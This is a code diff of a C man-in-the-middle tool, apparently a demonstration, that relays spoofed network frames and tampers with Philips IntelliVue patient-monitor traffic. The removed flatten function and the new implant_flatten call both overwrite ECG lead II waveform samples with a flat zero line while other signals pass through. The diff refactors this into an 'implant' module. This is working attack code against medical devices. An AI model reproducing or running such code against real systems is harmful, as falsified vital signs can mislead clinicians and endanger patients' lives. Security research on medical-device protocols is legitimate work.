@@ -6,6 +6,7 @@
 
 #include "base/clock.h"
 #include "demo/frame.h"
+#include "demo/implant.h"
 #include "demo/intellivue.h"
 
 #define POISON_NS (400 * NSEC_PER_MSEC)
@@ -43,28 +44,6 @@ static void heal(struct spoof *s)
 	}
 }
 
-/* Every lead's samples become the line of a heart that stands still; the pleth goes on. */
-static void flatten(struct spoof *s, const struct frame_ip *f)
-{
-	struct bytes datagram = {f->payload + 8, f->len - 8};
-	struct ivue_message m;
-
-	if (ivue_read(datagram, &m) != PARSE_OK || m.kind != IVUE_RESULT)
-		return;
-	for (unsigned i = 0; i < m.waves; i++) {
-		struct bytes samples = m.wave[i].samples;
-		uint8_t *at = f->payload + 8 + (samples.data - datagram.data);
-
-		if (m.wave[i].physio != IVUE_ECG_II)
-			continue;
-		for (size_t k = 0; k + 1 < samples.len; k += 2) {
-			at[k] = PATIENT_ECG_ZERO >> 8;
-			at[k + 1] = PATIENT_ECG_ZERO & 0xff;
-		}
-		s->a->board->forged++;
-	}
-}
-
 static void relay(struct spoof *s, uint8_t *frame, size_t len)
 {
 	struct frame_ip f;
@@ -73,7 +52,7 @@ static void relay(struct spoof *s, uint8_t *frame, size_t len)
 		return;
 	if (f.ip_src == s->victim && f.ip_dst == s->other) {
 		if (f.proto == 17 && f.len > 8 && (f.payload[0] << 8 | f.payload[1]) == IVUE_PORT)
-			flatten(s, &f);
+			s->a->board->forged += implant_flatten(f.payload + 8, f.len - 8);
 		memcpy(f.dst, s->a->other.mac, 6);
 	} else if (f.ip_src == s->other && f.ip_dst == s->victim) {
 		memcpy(f.dst, s->a->victim.mac, 6);
